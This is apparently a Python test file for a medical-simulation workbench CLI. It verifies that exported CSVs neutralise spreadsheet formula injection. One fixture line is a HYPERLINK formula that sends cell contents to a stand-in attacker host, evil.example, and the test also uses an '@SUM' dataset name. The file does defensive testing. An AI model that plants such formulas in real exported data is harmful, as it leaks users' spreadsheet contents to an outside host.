"""``stats --out`` writes its CSVs safe for spreadsheets, as the Compare tab's downloads are: a simulated-patient
case file's text or a dataset name that starts with ``=`` (or ``+ - @``, tab, CR) is never a live formula."""

from __future__ import annotations

import csv
from pathlib import Path

import yaml

from workbench.cli import main
from workbench.csv_safety import TRIGGERS, restore

REPO = Path(__file__).resolve().parents[1]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def test_stats_csvs_hold_no_formula_from_a_case_file_or_a_dataset_name(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("WORKBENCH_DB_URL", f"sqlite:///{tmp_path / 'cli.db'}")
    case = yaml.safe_load((REPO / "annotations" / "cases" / "acne.yaml").read_text("utf-8"))
    case["category"] = FORMULA
    cases = tmp_path / "cases"
    cases.mkdir()
    (cases / "acne.yaml").write_text(yaml.safe_dump(case, allow_unicode=True), encoding="utf-8")
    cfg = str(REPO / "configs" / "demo.yaml")
    assert main(["simulate", "--config", cfg, "--cases", str(cases), "--columns", "BianQue-2.0",
                 "--max-turns", "2", "--dataset", "@SUM(1+1)"]) == 0
    out = tmp_path / "stats"
    assert main(["stats", "--config", cfg, "--out", str(out), "--no-metrics", "--n-boot", "50"]) == 0
    capsys.readouterr()
    written = sorted(out.glob("*.csv"))
    assert out / "simulated_consultations.csv" in written
    cells = {}
    for path in written:
        with path.open(encoding="utf-8-sig", newline="") as f:
            for row in csv.reader(f):
                for cell in row:
                    cells[cell] = path.name
    live = {c: name for c, name in cells.items() if c.startswith(TRIGGERS)}
    assert not live, live
    # still lossless: the text comes back with restore()
    restored = {restore(c) for c in cells}
    assert FORMULA in restored and "@SUM(1+1)" in restored
